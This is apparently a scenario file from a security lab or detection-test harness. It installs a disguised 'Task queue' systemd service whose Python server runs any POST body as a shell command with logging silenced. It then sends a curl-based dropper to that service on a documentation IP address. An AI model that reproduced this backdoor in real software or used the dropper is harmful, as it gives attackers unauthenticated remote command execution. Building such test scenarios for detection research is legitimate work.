// It runs what it is sent and keeps no log. The control group names it, no way in is called so.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.logins(ordinary)
  dress.daemon('taskd', '/srv/taskd')
  dress.write(
    '/srv/taskd/taskd.py',
    `import http.server, subprocess
class Task(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_POST(self):
        subprocess.Popen(['sh', '-c', self.rfile.read(int(self.headers['Content-Length'])).decode()])
        self.send_response(202); self.end_headers()
http.server.ThreadingHTTPServer(('0.0.0.0', 7070), Task).serve_forever()
`,
  )
  dress.write(
    '/etc/systemd/system/taskd.service',
    '[Unit]\nDescription=Task queue\n\n[Service]\nUser=taskd\nExecStart=/usr/bin/python3 /srv/taskd/taskd.py\n\n[Install]\nWantedBy=multi-user.target\n',
  )
  dress.enable('taskd.service')
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.tq/tq', fetch: 'curl', cron: false })
  stage.mark('occurrence')
  await stage.http('203.0.113.71', ':7070/', line)
}
